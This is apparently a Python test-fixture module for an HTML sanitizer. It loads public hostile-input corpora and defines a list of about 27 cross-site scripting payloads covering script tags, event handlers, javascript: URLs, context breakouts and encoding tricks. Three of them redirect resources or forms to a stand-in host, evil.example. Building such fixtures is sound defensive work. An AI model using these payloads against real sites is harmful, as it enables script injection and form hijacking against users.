"""Hostile texts from public test sets, and some of our own that would show that they ran."""

import json
from pathlib import Path

CORPORA = Path(__file__).resolve().parents[4] / "shared" / "corpora"

RUNNING = tuple(
    shape.replace("RUN", "window.__x=1,alert(1)")
    for shape in (
        *(
            "<script>RUN</script>",
            "</textarea><script>RUN</script>",
            "</title><script>RUN</script>",
            "<img src=x onerror=RUN>",
        ),
        *("<svg onload=RUN>", "<svg><script>RUN</script></svg>", '"><svg/onload=RUN>', "' onmouseover='RUN' x='"),
        *(
            '" autofocus onfocus="RUN" x="',
            "javascript:RUN",
            "<a href=javascript:RUN>here</a>",
            "<iframe srcdoc='<script>RUN</script>'>",
        ),
        *(
            "<details open ontoggle=RUN>",
            "<math><mtext></p><script>RUN</script>",
            "</mark><script>RUN</script>",
            "--><script>RUN</script>",
        ),
        *(
            "<noscript><p title='</noscript><script>RUN</script>'>",
            "<body onload=RUN>",
            "<input autofocus onfocus=RUN>",
            "{{RUN}}",
        ),
        *(
            "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
            "\u2028RUN\u2029",
            "&lt;script&gt;RUN&lt;/script&gt;",
            "<scr\0ipt>RUN</scr\0ipt>",
        ),
        *(
            "<style>@import 'https://evil.example/'</style>",
            "<base href='https://evil.example/'>",
            "<form action=//evil.example>",
        ),
    )
)
"""Each tries to run from another place: a text, an attribute, a text box, a comment, a title."""


def naughty() -> list[str]:
    """Give the big list of naughty strings."""
    strings: list[str] = json.loads((CORPORA / "blns" / "blns.json").read_text("utf-8"))
    return strings


def markup() -> list[str]:
    """Give the input of each of html5lib's tokenizer cases."""
    found: list[str] = []
    for path in sorted((CORPORA / "html5lib-tests" / "tokenizer").glob("*.test")):
        for cases in json.loads(path.read_text("utf-8")).values():
            found += [str(case["input"]) for case in cases]
    return found


def json_files() -> list[bytes]:
    """Give each file of the JSON parsing test suite."""
    return [path.read_bytes() for path in sorted((CORPORA / "json-test-suite" / "test_parsing").iterdir())]


def in_batches(texts: list[str], size: int) -> list[str]:
    """Give texts joined, so many to a text."""
    return ["\n".join(texts[at : at + size]) for at in range(0, len(texts), size)]
